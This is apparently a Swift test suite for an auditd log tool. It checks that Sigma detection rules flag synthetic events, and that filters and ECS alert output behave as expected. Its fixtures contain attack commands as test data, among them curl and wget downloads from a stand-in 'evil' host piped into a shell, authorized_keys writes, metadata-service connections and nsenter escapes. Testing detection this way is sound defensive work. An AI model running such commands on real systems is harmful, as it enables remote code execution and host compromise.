import Foundation
import AuditEvents
import Output
import Pipeline
import Sigma
import Testing
import TestSupport

/// Sigma rules on nodeaudit's events: which log source meets which event, how a rule on
/// raw records meets an event of several records, and what the filters then select.
@Suite("Sigma rules on events")
struct SigmaDetectionTests {
    static let rules = try! String(contentsOfFile: Fixtures.fixtureFile("sigma/detection-tests.yml"), encoding: .utf8)

    static func exec(_ serial: Int, exe: String, argv: [String], cwd: String = "/root") -> [String] {
        let stamp = "msg=audit(1800000100.000:\(serial)):"
        let arguments = argv.enumerated().map { "a\($0.offset)=\(Self.hex($0.element))" }.joined(separator: " ")
        return [
            "type=SYSCALL \(stamp) arch=c000003e syscall=59 success=yes exit=0 a0=6e a1=2 a2=3 a3=4 items=2 ppid=1 pid=\(serial) auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"x\" exe=\"\(exe)\" key=\"exec\"",
            "type=EXECVE \(stamp) argc=\(argv.count) \(arguments)",
            "type=CWD \(stamp) cwd=\"\(cwd)\"",
            "type=PATH \(stamp) item=0 name=\"\(exe)\" inode=1 dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            "type=PROCTITLE \(stamp) proctitle=78",
        ]
    }

    /// argv values in the kernel's hex form, as it writes those with spaces or quotes.
    static func hex(_ text: String) -> String { text.utf8.map { String(format: "%02X", $0) }.joined() }

    static func openCreate(_ serial: Int, name: String, cwd: String) -> [String] {
        let stamp = "msg=audit(1800000100.000:\(serial)):"
        return [
            "type=SYSCALL \(stamp) arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd0 a2=241 a3=1a4 items=2 ppid=1 pid=\(serial) auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"ssh\"",
            "type=CWD \(stamp) cwd=\"\(cwd)\"",
            "type=PATH \(stamp) item=0 name=\".ssh/\" inode=2 dev=fe:01 mode=040700 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            "type=PATH \(stamp) item=1 name=\"\(name)\" inode=3 dev=fe:01 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
            "type=PROCTITLE \(stamp) proctitle=7368",
        ]
    }

    static func connect(_ serial: Int, sockaddr: String) -> [String] {
        let stamp = "msg=audit(1800000100.000:\(serial)):"
        return [
            "type=SYSCALL \(stamp) arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd0 a2=10 a3=0 items=0 ppid=1 pid=\(serial) auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=3 comm=\"python3\" exe=\"/usr/bin/python3.11\" key=\"net\"",
            "type=SOCKADDR \(stamp) saddr=\(sockaddr)",
            "type=PROCTITLE \(stamp) proctitle=7079",
        ]
    }

    /// The events of `lines`, each with the titles of the rules it matched.
    static func detections(_ lines: [String], rules: String = rules, filters: [String] = []) throws -> [(id: String, titles: [String])] {
        let set = SigmaLoader.load(rules, file: "test.yml")
        try #require(set.refusals.isEmpty, "\(set.refusals)")
        let sink = MemorySink()
        let pipeline = EventPipeline(enrichers: [], encoder: NativeJSONEncoder(), detector: SigmaDetector(rules: set.rules),
                                     filters: try filters.map { try EventFilter.parse($0) }, sink: sink)
        for line in lines { try pipeline.add(try Fixtures.record(line)) }
        try pipeline.finish()
        return try Command.jsonLines(Data(sink.bytes)).map { event in
            (event["id"] as? String ?? "", ((event["detections"] as? [[String: Any]]) ?? []).compactMap { $0["title"] as? String })
        }
    }

    // 169.254.169.254:80 and 10.0.0.1:80 as SOCKADDR hex (family 2, port, address).
    static let metadata = "02000050A9FEA9FE0000000000000000"
    static let other = "020000500A0000010000000000000000"

    @Test("a record field's literal is looked for in the record types its search names, and in every record when it names none")
    func recordTypeOfLiterals() throws {
        func rule(_ title: String, _ items: String) -> String {
            "title: \(title)\nlogsource:\n    product: linux\n    service: auditd\ndetection:\n    selection:\n\(items)\n    condition: selection\n"
        }
        let rules = [
            rule("a0 of an EXECVE", "        type: EXECVE\n        a0: marker-tool"),
            rule("a1 of any record", "        a1: 7ffd0"),
            rule("a1 of a SYSCALL", "        type: SYSCALL\n        a1: 7ffd0"),
            rule("a1 of an EXECVE", "        type: execve\n        a1: 7ffd0"),
            rule("a1 of a SYSCALL or an EXECVE", "        type: [SYSCALL, EXECVE]\n        a1|startswith: 7FFD"),
        ].joined(separator: "---\n")
        let lines = Self.exec(1, exe: "/usr/bin/marker-tool", argv: ["marker-tool", "7ffd0"])
            + Self.openCreate(2, name: "notes", cwd: "/root")
            + Self.exec(3, exe: "/usr/bin/other", argv: ["other", "marker-tool"])
        let events = try Self.detections(lines, rules: rules)
        #expect(events.map { Set($0.titles) } == [
            ["a0 of an EXECVE", "a1 of any record", "a1 of an EXECVE", "a1 of a SYSCALL or an EXECVE"],
            ["a1 of any record", "a1 of a SYSCALL", "a1 of a SYSCALL or an EXECVE"],
            [],
        ])
    }

    @Test("each log source meets its events: an exec, a created file (made absolute with the cwd), a connection")
    func logSources() throws {
        let lines = Self.exec(1, exe: "/usr/bin/bash", argv: ["bash", "-c", "curl -s http://evil/x | sh"])
            + Self.exec(2, exe: "/usr/bin/curl", argv: ["curl", "-o", "x.sh", "http://evil/x"])
            + Self.openCreate(3, name: ".ssh/authorized_keys", cwd: "/root")
            + Self.openCreate(4, name: ".ssh/known_hosts", cwd: "/root")
            + Self.connect(5, sockaddr: Self.metadata)
            + Self.connect(6, sockaddr: Self.other)
        let events = try Self.detections(lines)
        #expect(events.map(\.titles) == [
            ["shell piped from the network"], [], ["authorized_keys written"], [], ["connection to the metadata service"], [],
        ])
    }

    @Test("service: auditd rules meet one record at a time: fields of two records never make one match")
    func recordByRecord() throws {
        let events = try Self.detections(Self.exec(7, exe: "/usr/bin/nsenter", argv: ["nsenter", "-t", "1", "-m", "sh"])
            + Self.exec(8, exe: "/usr/bin/env", argv: ["env", "nsenter"]))
        #expect(events.map(\.titles) == [["EXECVE of nsenter, record by record"], []])
    }

    @Test("filters keep only matches, or only matches at a level and above")
    func filters() throws {
        let lines = Self.exec(1, exe: "/usr/bin/bash", argv: ["bash", "-c", "wget -qO- http://evil/x | bash"])
            + Self.openCreate(3, name: ".ssh/authorized_keys", cwd: "/root")
            + Self.exec(9, exe: "/usr/bin/true", argv: ["true"])
        #expect(try Self.detections(lines, filters: ["keep detection=*", "drop all"]).count == 2)
        #expect(try Self.detections(lines, filters: ["keep level>=high", "drop all"]).map(\.titles) == [["shell piped from the network"]])
        #expect(try Self.detections(lines, filters: ["keep level=medium", "drop all"]).map(\.titles) == [["authorized_keys written"]])
        #expect(try Self.detections(lines, filters: ["keep detection=00000000-0000-4000-8000-00000000a002", "drop all"]).map(\.titles)
                == [["authorized_keys written"]], "by id")
        #expect(try Self.detections(lines, filters: ["keep detection=authorized_keys*", "drop all"]).count == 1, "by title, to its first space")
        #expect(throws: FilterSyntaxError.self) { try EventFilter.parse("keep level>=severe") }
    }

    @Test("in ECS a match makes an alert: rule.* of the highest level, the rules' techniques in threat.*, every match in nodeaudit.detections")
    func ecs() throws {
        let result = try NodeAuditBinary.run(["parse", "--quiet", "--format", "ecs", "--sigma", Fixtures.fixtureFile("sigma/ecs-cases.yml"),
                                              "--filter", "keep detection=*", "--filter", "drop all", Fixtures.fixtureFile("ecs-cases.raw.log")])
        try #require(result.status == 0, "\(result.stderr)")
        let events = try Command.jsonLines(result.stdout)
        #expect(events.count == 3)
        let curl = try #require(events.first { (($0["nodeaudit"] as? [String: Any])?["detections"] as? [Any])?.count == 2 })
        #expect((curl["event"] as? [String: Any])?["kind"] as? String == "alert")
        #expect((curl["rule"] as? [String: Any])?["name"] as? String == "curl connects out", "medium above low")
        #expect((curl["rule"] as? [String: Any])?["ruleset"] as? String == "sigma")
        let threat = curl["threat"] as? [String: Any]
        #expect((threat?["technique"] as? [String: Any])?["id"] as? [String] == ["T1105"], "each technique once")
        for sudo in events where (sudo["rule"] as? [String: Any])?["name"] as? String == "sudo run on the node" {
            let technique = (sudo["threat"] as? [String: Any])?["technique"] as? [String: Any]
            #expect((technique?["subtechnique"] as? [String: Any])?["id"] as? [String] == ["T1548.003"], "the key's and the rule's, once")
        }
    }
}
